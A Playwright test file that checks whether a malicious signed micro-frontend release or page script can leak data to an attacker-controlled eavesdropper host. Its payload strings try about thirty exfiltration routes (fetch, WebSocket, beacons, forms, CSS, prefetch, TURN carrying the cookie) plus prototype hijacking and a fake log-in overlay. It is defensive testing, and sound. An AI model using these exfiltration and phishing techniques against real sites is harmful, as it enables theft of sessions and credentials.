import type { Page } from '@playwright/test';
import { startEavesdropper, type Eavesdropper } from '../fixtures/eavesdropper.ts';
import { expect, logIn, test as base } from '../fixtures/site.ts';
import { prependStatement, variantOf } from '../fixtures/variants.ts';

const test = base.extend<{ readonly evil: Eavesdropper }>({
  evil: async ({}, use) => {
    const evil = await startEavesdropper();
    await use(evil);
    await evil.close();
  },
});

/**
 * The attacks of a malicious signed remote other than running foreign code (`integrity.spec.ts`). Each text runs in its file and throws, or
 * answers something falsy, when it got nowhere. A release shares the page with everything else: what `ACCEPTED` holds cannot be stopped there
 * (docs/faults.md lists the protections against it instead).
 */
const STOPPED: Readonly<Record<string, string>> = {
  'tell another site by fetch': `await fetch(EVIL + '/fetch', { mode: 'no-cors' }); return true`,
  'tell another site by an old request': `await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open('GET', EVIL + '/xhr'); r.send(); }); return true`,
  'tell another site by a socket': `await new Promise((done, fail) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/socket'); s.onopen = done; s.onerror = fail; }); return true`,
  'tell another site by an event stream': `await new Promise((done, fail) => { const s = new EventSource(EVIL + '/stream'); s.onopen = done; s.onerror = () => { s.close(); fail(new Error('refused')); }; }); return true`,
  'tell another site by a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = EVIL + '/picture.svg'; }); return true`,
  'post what was typed to another site': `const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.append(sink);
    const f = document.createElement('form'); f.method = 'post'; f.action = EVIL + '/form'; f.target = 'sink'; document.body.append(f);
    const refused = new Promise((done) => document.addEventListener('securitypolicyviolation', (e) => e.effectiveDirective === 'form-action' && done(false)));
    f.submit(); return refused`,
  'read another site in a frame': `const f = document.createElement('iframe'); f.src = EVIL + '/frame'; document.body.append(f); await new Promise((done) => { f.onload = done; }); return f.contentDocument.body.textContent === 'evil'`,
  'tell a TURN server': `new RTCPeerConnection({ iceServers: [] }); return true`,
  'tell another site by a window': `return window.open(EVIL + '/window') !== null`,
  'tell another site by a link to a new tab': `const a = document.createElement('a'); a.href = EVIL + '/tab'; a.target = '_blank'; a.rel = 'noopener'; a.click(); return false`,
  'tell another site by a form to a new tab': `const f = document.createElement('form'); f.action = EVIL + '/form-tab'; f.target = '_blank'; document.body.append(f); f.submit(); return false`,
  'tell another site by a window of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open(EVIL + '/frame-window'); return false`,
  'tell another site by a page of a blob': `const a = document.createElement('a'); a.target = '_blank'; a.href = URL.createObjectURL(new Blob(['<meta http-equiv="refresh" content="0;url=' + EVIL + '/blob">'], { type: 'text/html' })); a.click(); return false`,
  'tell another site by a ping': `const a = document.createElement('a'); a.href = '#x'; a.ping = EVIL + '/ping'; document.body.append(a); a.click(); return false`,
  'tell another site by a beacon': `navigator.sendBeacon(EVIL + '/beacon', 'x'); return false`,
  'tell another site by a later request': `fetchLater(EVIL + '/later', { activateAfter: 0 }); return false`,
  'tell another site by hints': `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest', 'next']) { const l = document.createElement('link'); l.rel = rel; l.href = EVIL + '/' + rel; document.head.append(l); } return false`,
  'tell another site by a preload': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = EVIL + '/preload'; document.head.append(l); return false`,
  'tell another site by speculation': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + '/speculation'] }] }); document.head.append(s); return false`,
  'tell another site by media': `for (const [tag, name] of [['video', 'src'], ['video', 'poster'], ['audio', 'src'], ['track', 'src'], ['embed', 'src'], ['object', 'data'], ['input', 'src']]) { const e = document.createElement(tag); if (tag === 'input') e.type = 'image'; e[name] = EVIL + '/' + tag + name; document.body.append(e); } return false`,
  'tell another site by drawings': `for (const tag of ['image', 'use', 'feImage']) { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), e = document.createElementNS('http://www.w3.org/2000/svg', tag); e.setAttribute('href', EVIL + '/' + tag); svg.append(e); document.body.append(svg); } return false`,
  'tell another site by styles': `document.body.style.backgroundImage = 'url(' + EVIL + '/style)'; const s = new CSSStyleSheet(); s.replaceSync('body{background:url(' + EVIL + '/sheet)} @font-face{font-family:evil;src:url(' + EVIL + '/font)} body{font-family:evil}'); document.adoptedStyleSheets.push(s); await new FontFace('e', 'url(' + EVIL + '/face)').load(); return true`,
  'tell another site by a passkey': `if (navigator.credentials === undefined) return false; for (const verb of ['get', 'create']) { const key = { rpId: 'data.evil.example', rp: { id: 'data.evil.example', name: 'e' }, user: { id: new Uint8Array(9), name: 'e', displayName: 'e' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }], challenge: new Uint8Array(16) }; try { await navigator.credentials[verb]({ publicKey: key }); return true; } catch (e) { if (e.name !== 'NotAllowedError') return true; } } return false`,
  'tell another site by a transport': `await new WebTransport(EVIL.replace('http', 'https') + '/transport').ready; return true`,
  'run a worker of a blob': `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = fail; }); return true`,
  'share a worker with other tabs': `new SharedWorker('/h/main.js'); return true`,
  'run a worklet': `await new AudioContext().audioWorklet.addModule(EVIL + '/worklet'); return true`,
  'write the storage of the offline worker': `await caches.open('offline-2'); return true`,
  'change what every object inherits': `'use strict'; Object.prototype.evil = 1; return true`,
  'listen in on every request': `'use strict'; window.fetch = () => undefined; return true`,
  'read what JSON reads': `'use strict'; JSON.parse = () => undefined; return true`,
  'put itself between every promise': `'use strict'; Promise.prototype.then = () => undefined; return Promise.prototype.then.length === 0`,
};
const ACCEPTED: Readonly<Record<string, string>> = {
  'read the session that the specification keeps readable': `return document.cookie.includes('X-API-TOKEN')`,
  'read and write the storage of the page': `localStorage.setItem('evil', '1'); localStorage.removeItem('evil'); return true`,
  'see what is typed': `document.addEventListener('input', () => undefined, true); return true`,
  'draw over the page': `const d = document.createElement('div'); d.id = 'fake'; d.textContent = '请重新输入密码'; d.style.position = 'fixed'; document.body.append(d); return d.isConnected`,
  'ask the API as the member': `const answer = await fetch('/site/api/v1/user/info', { method: 'POST' }); return answer.status > 0`,
};

/** Tries each of them and leaves in `window.tried` which of them got somewhere. */
function tryEach(attempts: Readonly<Record<string, string>>, evil: string): string {
  const list = Object.entries(attempts).map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`);
  const limit = `new Promise((done) => setTimeout(() => done(false), 3000))`;
  return `window.tried = (async () => {
    const EVIL = ${JSON.stringify(evil)}, came = [];
    await Promise.all([${list.join(',')}].map(async ([name, attempt]) => {
      if (await Promise.race([attempt().then((got) => got === true, () => false), ${limit}])) came.push(name);
    }));
    return came;
  })()`;
}

test('a signed remote that turned malicious sends nothing outside and changes nothing of the others [T07] [T10]', async ({
  page,
  site,
  evil,
}) => {
  const before = (await site.ops.status()).remotes['help']?.version ?? '';
  await site.ops.publish(variantOf('help', '7.0.1', prependStatement('exposed', tryEach({ ...STOPPED, ...ACCEPTED }, evil.origin))));
  await logIn(page);
  await site.ops.activate('help', '7.0.1', 'journey');
  await page.goto('/help/kh');
  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();

  const came = await page.evaluate(() => (window as unknown as { tried: Promise<string[]> }).tried);

  expect(new Set(came)).toEqual(new Set(Object.keys(ACCEPTED)));
  expect(evil.heard).toEqual([]);
  await site.ops.rollback('help', before, 'journey');
});

/** Each leaves the page for another site, or connects from a realm that nothing was removed from. */
const LEAVING: Readonly<Record<string, string>> = {
  'by its location': `location.href = EVIL + '/location'`,
  'by a link': `const a = document.createElement('a'); a.href = EVIL + '/link'; a.click()`,
  'by a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + EVIL + '/refresh'; document.head.append(m)`,
  'by the navigation API': `navigation.navigate(EVIL + '/navigation')`,
  'through a window of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow.open('about:blank'); w.location = EVIL + '/window'`,
  'through a script of an empty frame with the nonce of the page': `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; w.trustedTypes.createPolicy('default', { createScriptURL: (one) => one });
    const s = w.document.createElement('script'); s.nonce = document.querySelector('script[nonce]').nonce; s.integrity = 'sha384-' + 'A'.repeat(64); s.crossOrigin = 'anonymous'; s.src = EVIL + '/script'; w.document.body.append(s); await new Promise((done) => { s.onload = s.onerror = done })`,
  'through a TURN server of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: TURN, username: document.cookie, credential: 'x' }] });
    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })`,
};

/** Closed in every browser. */
const CLOSED_BY_CSP: ReadonlySet<string> = new Set(['through a script of an empty frame with the nonce of the page']);

/** The page as a browser that does not know Connection-Allowlist takes it. */
async function withoutAllowlist(page: Page): Promise<void> {
  await page.route('**/help/kh', async (route) => {
    const response = await route.fetch();
    const { 'connection-allowlist': _removed, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
}

/** Runs it as a script of the page does; returns when the page is gone, or the attempt and what it started have had their time. */
async function leave(page: Page, code: string, evil: Eavesdropper): Promise<void> {
  await page.goto('/help/kh');
  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();
  const gone = Promise.race([page.waitForEvent('crash'), page.waitForEvent('framenavigated', (frame) => frame === page.mainFrame())]);
  const script = `(async () => { const EVIL = ${JSON.stringify(evil.origin)}, TURN = ${JSON.stringify(evil.turn)}; ${code};
    await new Promise((done) => setTimeout(done, 1500)) })()`;
  await Promise.race([gone, page.evaluate(script)]).catch(() => undefined);
}

for (const [way, code] of Object.entries(LEAVING)) {
  test(`a script of the page sends another site nothing ${way} [T07]`, async ({ page, evil }) => {
    if (CLOSED_BY_CSP.has(way)) await withoutAllowlist(page);
    await leave(page, code, evil);
    expect(evil.heard).toEqual([]);
  });

  if (CLOSED_BY_CSP.has(way)) continue;
  test(`known open without Connection-Allowlist: a script of the page sends another site something ${way} [T07]`, async ({
    page,
    evil,
  }) => {
    await withoutAllowlist(page);
    await leave(page, code, evil);
    await expect.poll(() => evil.heard).not.toEqual([]);
  });
}

test('a false log-in over the page is not stopped from being drawn, and is gone with its release [T11]', async ({ page, site }) => {
  const mask = `setTimeout(() => { const f = document.createElement('form'); f.setAttribute('aria-label', '假登录');
    f.append(document.createElement('input')); Object.assign(f.style, { position: 'fixed', inset: '0', zIndex: 99999 }); document.body.append(f) }, 0)`;
  const before = (await site.ops.status()).remotes['help']?.version ?? '';
  await site.ops.publish(variantOf('help', '7.0.2', prependStatement('exposed', mask)));
  await site.ops.activate('help', '7.0.2', 'journey');
  await page.goto('/help/kh');
  const form = page.getByRole('form', { name: '假登录' });
  await expect(form).toBeVisible();

  await site.ops.rollback('help', before, 'journey');
  await site.ops.order('help', 'revoke', { version: '7.0.2' });
  await page.goto('/help/kh');
  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();
  await expect(form).toHaveCount(0);
});
